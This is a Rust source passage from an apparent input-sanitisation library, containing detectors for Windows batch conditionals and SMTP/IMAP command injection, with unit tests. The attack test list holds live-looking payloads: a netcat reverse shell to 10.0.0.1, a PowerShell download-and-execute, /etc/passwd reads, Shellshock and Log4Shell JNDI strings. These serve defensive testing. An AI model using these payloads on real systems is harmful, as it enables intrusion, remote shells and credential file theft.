                .any(|tail| tail.trim_start().starts_with("do"))
        {
            hits.add(1, "cmd.windows", CRITICAL);
            break;
        }
    }
}

/// Windows batch conditionals: `if [/i] [not] exist|defined|errorlevel …`, `if a==b cmd`,
/// `if %x% equ 2 …`.
fn batch_if(s: &str, hits: &mut Hits) {
    let mut from = 0;
    while let Some(p) = super::find_word(s, "if", from) {
        from = p + 2;
        let rest = s[p + 2..].trim_start();
        let rest = rest.strip_prefix("/i").map_or(rest, str::trim_start);
        let rest = rest.strip_prefix("not").map_or(rest, str::trim_start);
        let mut words = rest.split_whitespace();
        let first = words.next().unwrap_or("");
        if matches!(first, "exist" | "defined" | "errorlevel") {
            // The condition's operand, then the command it runs.
            let _operand = words.next();
            let cmd = words.next().unwrap_or("");
            let cmd_word = cmd.trim_start_matches(['(', '@']);
            if command(cmd_word).is_some() || matches!(cmd_word, "goto" | "set" | "cmd" | "echo") {
                hits.add(1, "cmd.windows", CRITICAL);
            } else {
                hits.add(2, "cmd.windows", CRITICAL);
            }
            return;
        }
        let head: String = rest.chars().take(120).collect();
        let cmp = super::has(&head, "==")
            || head
                .split_whitespace()
                .any(|w| matches!(w, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq"));
        if cmp && (head.contains('%') || super::has(&head, "==")) {
            hits.add(1, "cmd.windows", CRITICAL);
            return;
        }
    }
}

/// SMTP / IMAP command injection through CR/LF in a field (`\r\nRCPT TO:<x>`).
fn mail_protocol(s: &str, hits: &mut Hits) {
    if !s.contains('\n') {
        return;
    }
    for line in s.split('\n').skip(1) {
        let l = line.trim_start_matches('\r').trim_start();
        let smtp = [
            "mail from:",
            "rcpt to:",
            "ehlo ",
            "helo ",
            "auth login",
            "auth plain",
            "starttls",
        ]
        .iter()
        .any(|c| l.starts_with(c));
        if smtp {
            hits.add(1, "cmd.mail_injection", CRITICAL);
            return;
        }
        // IMAP: `<tag> <command>`, tags are short alphanumerics like a001.
        let mut words = l.split_whitespace();
        if let (Some(tag), Some(cmd)) = (words.next(), words.next())
            && tag.len() <= 6
            && tag.bytes().all(|c| c.is_ascii_alphanumeric())
            && tag.bytes().any(|c| c.is_ascii_digit())
            && matches!(
                cmd,
                "select"
                    | "examine"
                    | "login"
                    | "authenticate"
                    | "append"
                    | "store"
                    | "copy"
                    | "search"
                    | "status"
                    | "uid"
                    | "list"
                    | "lsub"
                    | "fetch"
                    | "create"
                    | "delete"
                    | "rename"
                    | "subscribe"
                    | "logout"
                    | "capability"
                    | "expunge"
                    | "move"
                    | "idle"
            )
        {
            hits.add(1, "cmd.mail_injection", CRITICAL);
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract::FieldKind;

    fn score(s: &str, pl: u8) -> u32 {
        let mut hits = Hits::new(pl);
        let n = crate::normalize::normalize(s, 3);
        detect(
            &Input {
                text: &n.text,
                had_null: n.had_null,
                kind: FieldKind::Value,
                profile: &super::super::Profile::new(&n.text),
            },
            &mut hits,
        );
        hits.list.iter().map(|h| h.score).sum()
    }

    #[test]
    fn attacks() {
        for a in [
            ";cat /etc/passwd",
            "iex(new-object net.webclient).downloadstring('http://x/a')",
            "start-process calc.exe",
            "; get-childitem c:\\",
            ".shell ls -la",
            "x\n.system id",
            "| id",
            "&& whoami",
            "$(whoami)",
            "`uname -a`",
            "127.0.0.1; ls -la",
            "x|nc -e /bin/sh 10.0.0.1 4444",
            "() { :; }; /bin/bash -c id",
            "c'a't /e??/p?sswd",
            ";w'h'o'am'i",
            "cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "cmd.exe /c dir",
            "\r\nRCPT TO:<x@y.z>",
            "${jndi:ldap://evil/x}",
        ] {
            assert!(score(a, 1) >= 5, "missed {a:?}");
        }
    }

    #[test]
    fn business_text() {
        for b in [
            "AT&T",
            "Annual get-together; start-up founders",
            "set-up fee waived, new-hire onboarding",
            "v2.shell edition",
            ".NET developer",
            "Head of R&D",
            "Q&A",
            "Procter & Gamble",
            "Smith & Sons",
            "Do not call before 9am; prefers email",
            "please update the order; delete the old one",
            "Competitor: ZoomInfo; pain = data quality (~30% bounces)",
            "Ran ../setup.sh last week, still failing on their side",
            "Uses MySQL & PostgreSQL; evaluating alternatives",
            "Met at SaaStr; follow up re: pricing -- wants 10% off?",
            "Time & Attendance; more later",
            "Python developer",
            "Hello {{first_name}} & team",
            "Budget >= $50k; timeline < 3 months",
            "Cats & Dogs | Pet supplies",
        ] {
            assert!(score(b, 1) < 5, "false positive {b:?}: {}", score(b, 1));
        }
    }
}
